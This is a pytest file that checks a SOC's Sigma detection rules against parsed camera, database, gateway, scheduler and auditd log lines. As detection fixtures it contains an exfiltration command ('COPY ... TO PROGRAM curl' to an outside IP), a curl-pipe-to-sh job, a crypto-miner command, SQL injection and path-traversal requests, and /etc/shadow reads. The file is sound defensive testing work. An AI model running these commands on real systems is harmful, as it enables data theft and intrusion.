"""Our Sigma pack against events our own parsers produce from realistic raw lines.

Every rule of ``detections/rules/sigma`` whose input is a log line has cases here: raw
lines (syslog from cameras/NVRs and servers, PostgreSQL/pgaudit and MySQL audit logs,
gateway access logs, ETL and scheduler JSON, auditd) that must and must not match. Each
line goes through ``collectors.parsers.parse_record`` and the parsed event through the
streaming engine. Rules over network events take theirs from the network collector's
golden output (``tests/collectors/golden/net/protocols.json``: real decoder output).

The rules' ``X.tests.yml`` files are generated from these same cases
(``CITYSOC_UPDATE_RULE_TESTS=1 pytest tests/detections/test_rulepack_parsed.py``; read
the diff), and this test checks they have not drifted: every field a rule reads has the
same value in the tests file as in the freshly parsed event. Correlations are also
checked at their threshold: one event fewer must not fire.
"""
from __future__ import annotations

import copy
import datetime as _dt
import json
import os
from pathlib import Path
from typing import Any

import pytest
import yaml

from core.events import expand_dots, get_field
from core.protocols import RawRecord
from collectors.parsers import parse_record
from detections.sigma import SigmaEngine, load_rules
from detections.sigma.plan import plan_fields

ROOT = Path(__file__).resolve().parents[2]
PACK = ROOT / "detections" / "rules" / "sigma"
NET_GOLDEN = ROOT / "tests" / "collectors" / "golden" / "net" / "protocols.json"
NOW = "2026-11-25T12:00:00Z"

Line = str | tuple[str, str]
"""A raw line, or (raw line, ingest time) when the rule reads event.ingested."""


def hik(time: str, host: str, body: str, pri: int = 134) -> str:
    return f"<{pri}>Nov 25 {time} {host} HIKVISION: Major Type: {body}"


def dahua(time: str, host: str, body: str, pri: int = 14) -> str:
    return f"<{pri}>Nov 25 {time} {host} Dahua: {body}"


def sshd(time: str, msg: str, host: str = "srv-dw-01", pid: int = 2311) -> str:
    return f"<38>Nov 25 {time} {host} sshd[{pid}]: {msg}"


def pg(time: str, who: str, msg: str, pid: int = 4101) -> str:
    return f"2026-11-25 {time} UTC [{pid}] {who} {msg}"


def access(ip: str, request: str, status: int = 200, size: int = 512, agent: str = "Mozilla/5.0") -> str:
    return f'{ip} - - [25/Nov/2026:17:45:03 +0700] "{request} HTTP/1.1" {status} {size} "-" "{agent}"'


def audit(seq: int, body: str, rtype: str = "SYSCALL", t: int = 1795600900) -> str:
    return f"type={rtype} msg=audit({t}.000:{seq}): {body}"


def syscall(seq: int, *, comm: str, exe: str, key: str, tty: str = "pts0", auid: int = 1000, uid: int = 0,
            syscall_nr: int = 257) -> str:
    return audit(seq, f"arch=c000003e syscall={syscall_nr} success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 "
                      f"items=2 ppid=2100 pid=2101 auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} "
                      f"fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} ses=7 comm=\"{comm}\" "
                      f"exe=\"{exe}\" subj=unconfined key=\"{key}\"")


def job(**fields: Any) -> str:
    return json.dumps({"time": "2026-11-25T02:00:00Z", **fields})


HIK_ADMIN_OK = hik("10:15:02", "CAM-D1-0012", "Operation, Minor Type: Remote: Login, Local/Remote User: admin, "
                                              "Remote Host IP: 10.20.1.15, Channel No.: 1")
DAHUA_LOGIN_OK = dahua("10:20:11", "NVR-D3-02", "[Account] User Login. User: admin, IP: 10.20.3.4, Client: Web")
SSH_OK = sshd("10:00:01", "Accepted password for alice from 10.10.0.4 port 50122 ssh2")
PG_LOGIN_OK = pg("10:30:00.150", "etl_svc@warehouse", "LOG:  connection authorized: user=etl_svc database=warehouse "
                                                      "application_name=loader")

CASES: dict[str, dict[str, list[Line]]] = {
    "camera/camera_factory_account_login.yml": {
        "match": [
            dahua("10:20:11", "NVR-D3-02", "[Account] User Login. User: 888888, IP: 10.20.3.4, Client: Web"),
            hik("10:15:02", "CAM-D1-0012", "Operation, Minor Type: Remote: Login, Local/Remote User: root, "
                                           "Remote Host IP: 10.20.1.99, Channel No.: 1"),
        ],
        "nomatch": [
            HIK_ADMIN_OK,
            dahua("10:20:15", "NVR-D3-02", "[Account] Login Failed. User: 888888, IP: 203.0.113.61, "
                                           "Reason: Wrong Password", pri=12),
        ],
    },
    "camera/camera_admin_login_from_public_ip.yml": {
        "match": [hik("10:15:02", "CAM-D1-0012", "Operation, Minor Type: Remote: Login, Local/Remote User: admin, "
                                                 "Remote Host IP: 203.0.113.50, Channel No.: 1")],
        "nomatch": [
            HIK_ADMIN_OK,
            hik("10:15:09", "CAM-D1-0012", "Exception, Minor Type: Illegal Login, Local/Remote User: admin, "
                                           "Remote Host IP: 203.0.113.50", pri=132),
        ],
    },
    "camera/camera_login_brute_force.yml": {
        "match": [
            (hik(f"10:{15 + i // 3}:{(i % 3) * 20:02d}", "CAM-D1-0012",
                 "Exception, Minor Type: Illegal Login, Local/Remote User: admin, Remote Host IP: 203.0.113.50", pri=132)
             if i % 2 == 0 else
             dahua(f"10:{15 + i // 3}:{(i % 3) * 20:02d}", "NVR-D3-02",
                   "[Account] Login Failed. User: admin, IP: 203.0.113.50, Reason: Wrong Password", pri=12))
            for i in range(5)
        ],
        "nomatch": [HIK_ADMIN_OK, DAHUA_LOGIN_OK],
    },
    "camera/camera_account_locked.yml": {
        "match": [dahua("10:20:30", "NVR-D3-02", "[Account] Account Locked. User: admin, IP: 203.0.113.61", pri=12)],
        "nomatch": [dahua("10:20:15", "NVR-D3-02", "[Account] Login Failed. User: admin, IP: 203.0.113.61, "
                                                   "Reason: Wrong Password", pri=12)],
    },
    "camera/camera_firmware_outside_maintenance.yml": {
        "match": [
            (hik("10:17:00", "NVR-D1-01", "Operation, Minor Type: Remote: Upgrade, Local/Remote User: admin, "
                                          "Remote Host IP: 10.20.1.15, Firmware Version: V4.62.210, Result: Succeeded, "
                                          "Device Model: DS-7616NI-K2"), "2026-11-25T10:17:01Z"),
            (dahua("10:22:00", "NVR-D3-02", "[System] Upgrade. Version: 4.001.0000000.3, Result: Success, "
                                            "Model: DHI-NVR5216-16P-4KS2E"), "2026-11-25T10:22:01Z"),
        ],
        "nomatch": [
            (dahua("19:30:00", "NVR-D3-02", "[System] Upgrade. Version: 4.001.0000000.3, Result: Success, "
                                            "Model: DHI-NVR5216-16P-4KS2E"), "2026-11-25T19:30:01Z"),
            (dahua("10:21:00", "IPC-D3-0107", "[Config] Save Config. User: admin, Group: Encode, IP: 10.20.3.4"),
             "2026-11-25T10:21:01Z"),
        ],
    },
    "camera/camera_firmware_upgrade_failed.yml": {
        "match": [
            dahua("10:22:30", "NVR-D3-02", "[System] Upgrade. Version: 4.001.0000000.3, Result: Failed, "
                                           "Model: DHI-NVR5216-16P-4KS2E", pri=11),
            hik("10:17:00", "NVR-D1-01", "Operation, Minor Type: Remote: Upgrade, Local/Remote User: admin, "
                                         "Remote Host IP: 10.20.1.15, Firmware Version: V9.9.9, Result: Failed"),
        ],
        "nomatch": [dahua("10:22:00", "NVR-D3-02", "[System] Upgrade. Version: 4.001.0000000.3, Result: Success")],
    },
    "camera/camera_security_config_change.yml": {
        "match": [
            hik("10:16:00", "NVR-D1-01", "Operation, Minor Type: Remote: Parameters Config, Local/Remote User: admin, "
                                         "Remote Host IP: 10.20.1.15, Parameter Type: Network Parameters, "
                                         "Device Model: DS-7616NI-K2"),
            dahua("10:21:00", "IPC-D3-0107", "[Config] Save Config. User: admin, Group: NTP, IP: 10.20.3.4"),
        ],
        "nomatch": [
            dahua("10:21:00", "IPC-D3-0107", "[Config] Save Config. User: admin, Group: Encode, IP: 10.20.3.4"),
            hik("10:16:00", "CAM-D1-0044", "Operation, Minor Type: Remote: Parameters Config, Local/Remote User: admin, "
                                           "Remote Host IP: 10.20.1.15, Parameter Type: Image Parameters"),
        ],
    },
    "camera/camera_telnet_enabled.yml": {
        "match": [
            hik("10:15:02", "CAM-D1-0012", "Operation, Minor Type: Remote: Parameters Config, Local/Remote User: admin, "
                                           "Remote Host IP: 10.20.1.15, Parameter Type: Telnet Service"),
            dahua("10:21:00", "IPC-D3-0107", "[Config] Save Config. User: admin, Group: Telnet, IP: 10.20.3.9"),
        ],
        "nomatch": [
            dahua("10:21:00", "IPC-D3-0107", "[Config] Save Config. User: admin, Group: Encode, IP: 10.20.3.4"),
            hik("10:16:00", "NVR-D1-01", "Operation, Minor Type: Remote: Parameters Config, Local/Remote User: admin, "
                                         "Remote Host IP: 10.20.1.15, Parameter Type: Network Parameters"),
        ],
    },
    "camera/camera_video_tampering.yml": {
        "match": [
            hik("10:19:00", "CAM-D1-0044", "Alarm, Minor Type: Video Tampering Detected, Channel No.: 1", pri=129),
            dahua("10:24:00", "IPC-D3-0107", "[Event] Tampering Start. Channel: 1", pri=12),
        ],
        "nomatch": [hik("10:20:00", "CAM-D1-0044", "Alarm, Minor Type: Motion Detection Started, Channel No.: 1")],
    },
    "camera/camera_video_loss_spike.yml": {
        "match": [hik(f"10:18:{10 * ch:02d}", "NVR-D1-01",
                      f"Exception, Minor Type: Video Signal Loss, Channel No.: {ch}, Device Model: DS-7616NI-K2",
                      pri=132) for ch in range(1, 6)],
        "nomatch": [
            dahua("10:23:40", "NVR-D3-02", "[Event] Video Loss End. Channel: 3"),
            hik("10:20:00", "CAM-D1-0044", "Alarm, Minor Type: Motion Detection Started, Channel No.: 1"),
        ],
    },
    "camera/camera_user_added.yml": {
        "match": [
            hik("10:15:02", "CAM-D1-0012", "Operation, Minor Type: Remote: Add User, Local/Remote User: admin, "
                                           "Remote Host IP: 10.20.1.15"),
            dahua("10:25:00", "IPC-D3-0107", "[Account] Add User. User: admin, IP: 10.20.3.4"),
        ],
        "nomatch": [dahua("10:25:09", "IPC-D3-0107", "[Account] User Logout. User: operator, IP: 10.20.3.8")],
    },
    "warehouse/db_export_to_file.yml": {
        "match": [
            pg("10:30:03.000", "analyst@warehouse",
               'LOG:  AUDIT: SESSION,1,1,READ,COPY,,,"COPY public.citizens TO \'/tmp/citizens.csv\' WITH CSV HEADER",'
               "<not logged>"),
            pg("10:31:00.000", "analyst@warehouse",
               "LOG:  statement: COPY (SELECT * FROM citizens) TO PROGRAM 'curl -T - http://203.0.113.9/up'", 4110),
            json.dumps({"timestamp": "2026-11-25 10:40:03", "id": 7, "class": "general", "event": "status",
                        "connection_id": 19, "account": {"user": "report", "host": "10.30.0.8"},
                        "login": {"user": "report", "os": "", "ip": "10.30.0.8", "proxy": ""},
                        "general_data": {"command": "Query", "sql_command": "select", "status": 0,
                                         "query": "SELECT * FROM citizens INTO OUTFILE '/var/lib/mysql-files/c.csv'"}}),
        ],
        "nomatch": [
            pg("10:32:00.000", "etl_svc@warehouse", "LOG:  statement: COPY traffic_counts FROM '/data/in/traffic.csv' "
                                                    "WITH CSV", 4111),
            pg("10:30:03.000", "etl_svc@warehouse",
               "LOG:  AUDIT: SESSION,1,1,READ,SELECT,TABLE,public.citizens,\"SELECT id, national_id FROM "
               "public.citizens WHERE district = 'Q1'\",<not logged>"),
        ],
    },
    "warehouse/etl_large_export.yml": {
        "match": [json.dumps({"ts": "2026-11-25T03:00:05Z", "level": "INFO", "pipeline": "citizen_registry_sync",
                              "run_id": "r-20261125", "task": "export_csv", "event": "task_finished",
                              "status": "success", "rows_read": 7200000, "rows_written": 7200000,
                              "source": "warehouse.citizens", "target": "sftp://partner.example/citizens.csv",
                              "user": "etl_svc", "host": "etl-02"})],
        "nomatch": [
            json.dumps({"ts": "2026-11-25T03:00:05.250Z", "level": "INFO", "pipeline": "traffic_daily",
                        "run_id": "r-20261125", "task": "load_stage", "event": "task_finished", "status": "success",
                        "rows_read": 120000, "rows_written": 119870, "rows_rejected": 130, "duration_ms": 5321,
                        "source": "s3://raw/traffic/2026-11-24/", "target": "warehouse.traffic_daily",
                        "user": "etl_svc", "host": "etl-01"}),
            json.dumps({"ts": "2026-11-25T03:30:00Z", "level": "INFO", "pipeline": "trips", "run_id": "r-2",
                        "task": "load", "event": "task_finished", "status": "success", "rows_read": 9000000,
                        "rows_written": 9000000, "source": "s3://raw/trips/", "target": "warehouse.trips",
                        "user": "etl_svc", "host": "etl-01"}),
        ],
    },
    "warehouse/gateway_large_download.yml": {
        "match": [access("10.40.0.31", "GET /api/v1/datasets/77/export?format=csv", 200, 734003200,
                         "python-requests/2.31.0")],
        "nomatch": [access("10.40.0.12", "GET /api/v1/cameras?district=Q1&limit=50", 200, 5123,
                           "python-requests/2.31.0")],
    },
    "warehouse/db_grant_broad_privileges.yml": {
        "match": [
            pg("10:30:05.000", "dba@warehouse", 'LOG:  AUDIT: SESSION,1,1,ROLE,GRANT,,,"GRANT ALL PRIVILEGES ON ALL '
                                                'TABLES IN SCHEMA public TO analyst_x",<not logged>', 4104),
            pg("10:30:06.000", "analyst_x@warehouse", "LOG:  statement: GRANT pg_read_all_data TO contractor1", 4105),
            json.dumps({"audit_record": {"name": "Query", "record": "8_2026-11-25T10:41:00",
                                         "timestamp": "2026-11-25T10:41:00 UTC", "command_class": "grant",
                                         "connection_id": "20", "status": 0,
                                         "sqltext": "GRANT SELECT ON warehouse.* TO 'x'@'%' WITH GRANT OPTION",
                                         "user": "dba[dba] @ localhost []", "host": "localhost", "os_user": "",
                                         "ip": "", "db": "warehouse"}}),
        ],
        "nomatch": [
            pg("10:30:05.000", "dba@warehouse", 'LOG:  AUDIT: SESSION,1,1,ROLE,GRANT,,,"GRANT SELECT ON '
                                                'public.citizens TO analyst_x",<not logged>', 4104),
            pg("10:30:07.000", "dba@warehouse", 'LOG:  AUDIT: SESSION,2,1,ROLE,REVOKE,,,"REVOKE ALL ON '
                                                'public.citizens FROM analyst_x",<not logged>', 4104),
        ],
    },
    "warehouse/db_role_superuser.yml": {
        "match": [
            pg("10:30:05.000", "dba@warehouse", 'LOG:  AUDIT: SESSION,3,1,ROLE,ALTER ROLE,,,"ALTER ROLE analyst_x '
                                                'WITH SUPERUSER",<not logged>', 4104),
            pg("10:30:09.000", "analyst_x@warehouse", "LOG:  statement: CREATE USER backup_ops WITH LOGIN "
                                                      "CREATEROLE BYPASSRLS", 4106),
        ],
        "nomatch": [
            pg("10:30:05.000", "dba@warehouse", 'LOG:  AUDIT: SESSION,3,1,ROLE,ALTER ROLE,,,"ALTER ROLE analyst_x '
                                                'NOSUPERUSER",<not logged>', 4104),
            pg("10:30:05.000", "dba@warehouse", 'LOG:  AUDIT: SESSION,4,1,ROLE,ALTER ROLE,,,"ALTER ROLE analyst_x '
                                                'SET search_path = public",<not logged>', 4104),
        ],
    },
    "warehouse/db_login_off_hours.yml": {
        "match": [
            (pg("16:30:00.150", "analyst@warehouse", "LOG:  connection authorized: user=analyst database=warehouse "
                                                     "application_name=psql", 4201), "2026-11-25T16:30:01Z"),
            (json.dumps({"timestamp": "2026-11-25 20:00:00", "id": 30, "class": "connection", "event": "connect",
                         "connection_id": 40, "account": {"user": "dung", "host": "10.30.0.44"},
                         "login": {"user": "dung", "os": "", "ip": "10.30.0.44", "proxy": ""},
                         "connection_data": {"connection_type": "ssl", "status": 0, "db": "warehouse"}}),
             "2026-11-25T20:00:01Z"),
        ],
        "nomatch": [
            (pg("16:30:00.150", "etl_svc@warehouse", "LOG:  connection authorized: user=etl_svc database=warehouse "
                                                     "application_name=loader", 4202), "2026-11-25T16:30:01Z"),
            (pg("03:30:00.150", "analyst@warehouse", "LOG:  connection authorized: user=analyst database=warehouse "
                                                     "application_name=psql", 4203), "2026-11-25T03:30:01Z"),
            (pg("16:31:00.000", "bob@warehouse", 'FATAL:  password authentication failed for user "bob"', 4204),
             "2026-11-25T16:31:01Z"),
        ],
    },
    "warehouse/gateway_sql_injection.yml": {
        "match": [
            access("203.0.113.99", "GET /api/v1/datasets?district=Q1%27%20UNION%20SELECT%20national_id,name%20FROM"
                                   "%20citizens--", 200, 90123),
            access("203.0.113.99", "GET /api/v1/cameras?id=1'+OR+1=1--", 200, 4410),
            access("203.0.113.99", "GET /api/v1/trips?from=2026-01-01%27%20AND%20pg_sleep(5)--", 500, 120),
            access("203.0.113.99", "GET /api/v1/search?q=x%27%20UNION/**/SELECT/**/table_name%20FROM%20"
                                   "information_schema.tables--", 400, 150),
        ],
        "nomatch": [
            access("10.40.0.12", "GET /api/v1/cameras?district=Q1&limit=50", 200, 5123),
            access("10.40.0.12", "GET /api/v1/reports/union-select-committee?year=2026", 200, 800),
            access("10.40.0.12", "GET /api/v1/sleep-stats?district=Q1", 200, 700),
        ],
    },
    "warehouse/gateway_attack_tool_user_agent.yml": {
        "match": [access("203.0.113.99", "GET /api/v1/../../etc/passwd", 400, 150,
                         "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        "nomatch": [access("10.40.0.12", "GET /api/v1/cameras?district=Q1&limit=50", 200, 5123,
                           "python-requests/2.31.0")],
    },
    "warehouse/db_ddl_by_service_account.yml": {
        "match": [
            pg("10:30:06.000", "etl_svc@warehouse", 'LOG:  AUDIT: OBJECT,3,1,DDL,DROP TABLE,TABLE,public.citizens,'
                                                    '"DROP TABLE public.citizens",<none>'),
            json.dumps({"audit_record": {"name": "Query", "record": "9_2026-11-25T10:41:05",
                                         "timestamp": "2026-11-25T10:41:05 UTC", "command_class": "truncate",
                                         "connection_id": "21", "status": 0, "sqltext": "TRUNCATE TABLE sensors",
                                         "user": "svc_portal[svc_portal] @  [10.30.0.7]", "host": "",
                                         "os_user": "", "ip": "10.30.0.7", "db": "warehouse"}}),
        ],
        "nomatch": [
            pg("10:30:04.000", "etl_svc@warehouse", 'LOG:  AUDIT: SESSION,2,1,WRITE,DELETE,TABLE,public.traffic_counts,'
                                                    "\"DELETE FROM traffic_counts WHERE day < '2025-01-01'\","
                                                    "<not logged>"),
            pg("10:30:06.000", "dba@warehouse", 'LOG:  AUDIT: OBJECT,3,1,DDL,ALTER TABLE,TABLE,public.citizens,'
                                                '"ALTER TABLE citizens ADD COLUMN note text",<none>', 4104),
        ],
    },
    "warehouse/db_login_brute_force.yml": {
        "match": [pg(f"10:3{i}:01.002", "postgres@warehouse",
                     'FATAL:  password authentication failed for user "postgres"', 4300 + i) for i in range(8)],
        "nomatch": [PG_LOGIN_OK],
    },
    "forecasting/model_artifact_written_outside_job.yml": {
        "match": [json.dumps({"time": "2026-11-25T04:30:00Z", "event": "artifact_written", "job_id": None,
                              "model": "flood-v3", "user": "minh", "node": "fc-ws-07",
                              "artifact": {"path": "/models/flood-v3/model.onnx", "size": 48211456,
                                           "sha256": "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"}})],
        "nomatch": [json.dumps({"time": "2026-11-25T04:10:02Z", "event": "artifact_written", "job_id": "88240",
                                "model": "traffic-v7", "user": "fc_ml", "node": "cpu-11",
                                "artifact": {"path": "/models/traffic-v7/model.onnx", "size": 48211456,
                                             "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}})],
    },
    "forecasting/model_store_changed_interactively.yml": {
        "match": [syscall(900, comm="cp", exe="/usr/bin/cp", key="watch_models", tty="pts1", auid=1003, uid=1003)],
        "nomatch": [
            syscall(901, comm="python3", exe="/usr/bin/python3.11", key="watch_models", tty="(none)", auid=1101,
                    uid=1101),
            syscall(902, comm="curl", exe="/usr/bin/curl", key="exec", tty="pts0", syscall_nr=59),
        ],
    },
    "forecasting/job_submitted_by_unexpected_user.yml": {
        "match": [job(scheduler="slurm", event="submit", job_id="88300", job_name="test", user="guest01",
                      queue="gpu", command="python run.py")],
        "nomatch": [
            job(scheduler="slurm", event="submit", job_id="88231", job_name="flood-forecast-train", user="fc_ml",
                queue="gpu", command="python train.py --model flood-v3"),
            job(scheduler="slurm", event="start", job_id="88300", job_name="test", user="guest01", queue="gpu",
                node="gpu-03"),
        ],
    },
    "forecasting/job_command_downloads_or_shell.yml": {
        "match": [
            job(scheduler="slurm", event="submit", job_id="88301", job_name="x", user="fc_ml", queue="gpu",
                command="bash -c 'curl -s http://203.0.113.9/x.sh | sh'"),
            job(scheduler="slurm", event="submit", job_id="88302", job_name="warmup", user="fc_ml", queue="gpu",
                command="./xmrig -o stratum+tcp://pool.example:3333 -u wallet"),
        ],
        "nomatch": [job(scheduler="slurm", event="submit", job_id="88231", job_name="flood-forecast-train",
                        user="fc_ml", queue="gpu", command="python train.py --model flood-v3")],
    },
    "servers/ssh_root_login.yml": {
        "match": [sshd("10:00:01", "Accepted publickey for root from 10.10.0.4 port 50122 ssh2: RSA SHA256:abc")],
        "nomatch": [SSH_OK, sshd("10:00:03", "Failed password for root from 203.0.113.7 port 41022 ssh2")],
    },
    "servers/sudo_root_shell.yml": {
        "match": [
            "<85>Nov 25 10:05:02 fc-node-2 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
            "<85>Nov 25 10:05:03 fc-node-2 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
            "COMMAND=/usr/bin/su -",
        ],
        "nomatch": [
            "<85>Nov 25 10:05:00 fc-node-2 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
            "COMMAND=/usr/bin/systemctl restart forecast-api",
            "<85>Nov 25 10:05:02 fc-node-2 sudo:    mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; "
            "USER=root ; COMMAND=/bin/bash",
        ],
    },
    "servers/sudo_denied.yml": {
        "match": [
            "<85>Nov 25 10:05:02 fc-node-2 sudo:    mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; "
            "USER=root ; COMMAND=/bin/bash",
            "<85>Nov 25 10:05:01 fc-node-2 sudo:    bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; "
            "USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
        ],
        "nomatch": ["<85>Nov 25 10:05:00 fc-node-2 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
                    "COMMAND=/usr/bin/systemctl restart forecast-api"],
    },
    "servers/auditd_identity_files_changed.yml": {
        "match": [
            syscall(470, comm="vipw", exe="/usr/sbin/vipw", key="identity", syscall_nr=82),
            audit(470, 'item=3 name="/etc/passwd" inode=1400 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 '
                       "nametype=CREATE", rtype="PATH"),
        ],
        "nomatch": [
            audit(471, 'item=0 name="/etc/shadow" inode=1401 dev=08:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 '
                       "nametype=NORMAL", rtype="PATH"),
            syscall(472, comm="curl", exe="/usr/bin/curl", key="exec", syscall_nr=59),
        ],
    },
    "servers/new_local_user_created.yml": {
        "match": [
            "<86>Nov 25 10:06:10 srv-db-01 useradd[3010]: new user: name=backup2, UID=1005, GID=1005, "
            "home=/home/backup2, shell=/bin/bash, from=/dev/pts/0",
            audit(460, "pid=1300 uid=0 auid=1000 ses=3 msg='op=adding user id=1002 exe=\"/usr/sbin/useradd\" "
                       "hostname=fc-node-2 addr=? terminal=pts/0 res=success'", rtype="ADD_USER", t=1795600802),
        ],
        "nomatch": [
            "<86>Nov 25 10:06:11 srv-db-01 useradd[3011]: failed adding user 'backup2', exit code: 9",
            "<86>Nov 25 10:06:12 srv-db-01 groupadd[3012]: new group: name=backup2, GID=1005",
        ],
    },
    "servers/ssh_brute_force.yml": {
        "match": [sshd(f"10:01:{5 * i:02d}", f"Failed password for root from 203.0.113.7 port {41000 + i} ssh2",
                       pid=2400 + i) for i in range(10)],
        "nomatch": [SSH_OK],
    },
    "servers/ssh_login_from_public_ip.yml": {
        "match": [sshd("10:00:01", "Accepted password for alice from 198.51.100.23 port 50122 ssh2")],
        "nomatch": [SSH_OK, sshd("10:00:03", "Failed password for alice from 198.51.100.23 port 41022 ssh2")],
    },
    "servers/auditd_rules_changed.yml": {
        "match": [
            audit(480, 'auid=1000 ses=3 op=remove_rule key="identity" list=4 res=1', rtype="CONFIG_CHANGE"),
            audit(481, "auid=1000 ses=3 op=set audit_enabled=0 old=1 res=1", rtype="CONFIG_CHANGE"),
        ],
        "nomatch": ['node=fc-node-2 type=CONFIG_CHANGE msg=audit(1795600804.000:462): auid=1000 ses=3 op=add_rule '
                    'key="watch_models" list=4 res=1'],
    },
}


def _net_golden() -> list[dict[str, Any]]:
    return json.loads(NET_GOLDEN.read_text())


def _net_event(action: str, **where: Any) -> dict[str, Any]:
    for ev in _net_golden():
        if ev["event"]["action"] != action:
            continue
        if all(get_field(ev, k) == v for k, v in where.items()):
            return copy.deepcopy(ev)
    raise LookupError(f"no {action} event with {where} in {NET_GOLDEN}")


def _shifted(ev: dict[str, Any], seconds: float) -> dict[str, Any]:
    out = copy.deepcopy(ev)
    ts = _dt.datetime.fromisoformat(out["@timestamp"].replace("Z", "+00:00")) + _dt.timedelta(seconds=seconds)
    out["@timestamp"] = ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    return out


def _closed_telnet() -> dict[str, Any]:
    ev = _net_event("network_flow", **{"destination.port": 23})
    net = ev["citysoc"]["network"]
    net["tcp_flags"] = ["SYN", "ACK", "RST"]
    net["tcp_flags_source"] = ["SYN"]
    net["tcp_flags_destination"] = ["ACK", "RST"]
    net["flow_end_reason"] = ev["event"]["reason"] = "rst"
    return ev


NET_CASES: dict[str, dict[str, Any]] = {
    "camera/camera_telnet_service_answering.yml": {
        "match": lambda: [_net_event("network_flow", **{"destination.port": 23})],
        "nomatch": lambda: [_closed_telnet(), _net_event("network_flow", **{"destination.port": 22})],
    },
    "camera/rtsp_auth_failures.yml": {
        "match": lambda: [_shifted(_net_event("rtsp_response", **{"citysoc.network.rtsp.status_code": 401}), i)
                          for i in range(10)],
        "nomatch": lambda: [_net_event("rtsp_response", **{"citysoc.network.rtsp.status_code": 200}),
                            _net_event("rtsp_request", **{"citysoc.network.rtsp.cseq": 3})],
    },
    "camera/rtsp_credentials_in_url.yml": {
        "match": lambda: [_net_event("rtsp_request", **{"citysoc.network.rtsp.cseq": 2})],
        "nomatch": lambda: [_net_event("rtsp_request", **{"citysoc.network.rtsp.cseq": 3})],
    },
}


def _parse(line: Line) -> dict[str, Any]:
    raw, now = (line, NOW) if isinstance(line, str) else line
    when = _dt.datetime.fromisoformat(now.replace("Z", "+00:00"))
    ev = parse_record(RawRecord(raw.encode(), source="rulepack-test"), now=when)
    bad = {"timestamp_invalid", "timestamp_future", "parser_failure"} & set(ev.get("tags") or [])
    assert not bad, f"test line parsed badly ({sorted(bad)}): {raw}"
    return ev


def _events(rel: str) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    if rel in CASES:
        case = CASES[rel]
        return [_parse(x) for x in case["match"]], [_parse(x) for x in case["nomatch"]]
    case = NET_CASES[rel]
    return case["match"](), case["nomatch"]()


ALL = sorted({*CASES, *NET_CASES})


@pytest.fixture(scope="module")
def pack():
    rs = load_rules([PACK])
    assert not rs.failures, [f.as_dict() for f in rs.failures]
    by_file: dict[str, list[Any]] = {}
    for spec in rs.rules:
        by_file.setdefault(Path(spec.path).resolve().relative_to(PACK).as_posix(), []).append(spec)
    return by_file


def _dump_tests(path: Path, match: list[dict[str, Any]], nomatch: list[dict[str, Any]]) -> None:
    header = ("# Generated from tests/detections/test_rulepack_parsed.py (raw lines through our parsers);\n"
              "# regenerate with CITYSOC_UPDATE_RULE_TESTS=1 and read the diff.\n")
    body = yaml.safe_dump({"match": match, "nomatch": nomatch}, sort_keys=False, allow_unicode=True, width=110)
    path.write_text(header + body, encoding="utf-8")


@pytest.mark.parametrize("rel", ALL)
def test_rule_on_parsed_events(rel, pack):
    specs = pack.get(rel)
    assert specs, f"{rel}: no rule loaded from this file"
    match, nomatch = _events(rel)
    tests_file = (PACK / rel).with_name(Path(rel).name[:-4] + ".tests.yml")
    if os.environ.get("CITYSOC_UPDATE_RULE_TESTS"):
        _dump_tests(tests_file, match, nomatch)
    plain = [s for s in specs if s.correlation is None]
    corr = [s for s in specs if s.correlation is not None]
    if corr:
        eng = SigmaEngine(specs)
        fired = {d.rule_id for ev in match for d in eng.process(ev)}
        assert {s.id for s in corr} <= fired, f"{rel}: correlation did not fire on its match events"
        eng = SigmaEngine(specs)
        short = {d.rule_id for ev in match[:-1] for d in eng.process(ev)}
        assert not ({s.id for s in corr} & short), f"{rel}: correlation fired one event below its threshold"
        eng = SigmaEngine(specs)
        assert not [d for ev in nomatch for d in eng.process(ev)], f"{rel}: nomatch events produced detections"
    else:
        eng = SigmaEngine(plain)
        for i, ev in enumerate(match):
            assert eng.matches(ev), f"{rel}: match[{i}] did not match: {ev.get('event', {}).get('original', ev)}"
        for i, ev in enumerate(nomatch):
            assert not eng.matches(ev), f"{rel}: nomatch[{i}] matched: {ev.get('event', {}).get('original', ev)}"

    # The rule's tests file must hold these same events, at least in every field the rule reads.
    assert tests_file.is_file(), f"{tests_file} is missing: run with CITYSOC_UPDATE_RULE_TESTS=1"
    doc = yaml.safe_load(tests_file.read_text(encoding="utf-8"))
    stored = {k: [expand_dots(e) for e in doc.get(k) or []] for k in ("match", "nomatch")}
    assert len(stored["match"]) == len(match) and len(stored["nomatch"]) == len(nomatch), \
        f"{tests_file}: event counts differ from the cases here; regenerate it"
    read: set[str] = set()
    for s in specs:
        if s.plan is not None:
            read |= {alt for key in plan_fields(s.plan) for alt in key.split("|")}
        if s.correlation is not None:
            read |= set(s.correlation.group_by)
    for kind, fresh in (("match", match), ("nomatch", nomatch)):
        for i, (a, b) in enumerate(zip(stored[kind], fresh)):
            for f in sorted(read):
                assert get_field(a, f) == get_field(b, f), (
                    f"{tests_file} {kind}[{i}] field {f}: {get_field(a, f)!r} in the file, "
                    f"{get_field(b, f)!r} from the parser now; regenerate with CITYSOC_UPDATE_RULE_TESTS=1")


def test_every_rule_file_has_cases_here():
    files = sorted(p.relative_to(PACK).as_posix() for p in PACK.rglob("*.yml") if not p.name.endswith(".tests.yml"))
    assert files == ALL, f"rule files without parsed cases: {sorted(set(files) - set(ALL))}"
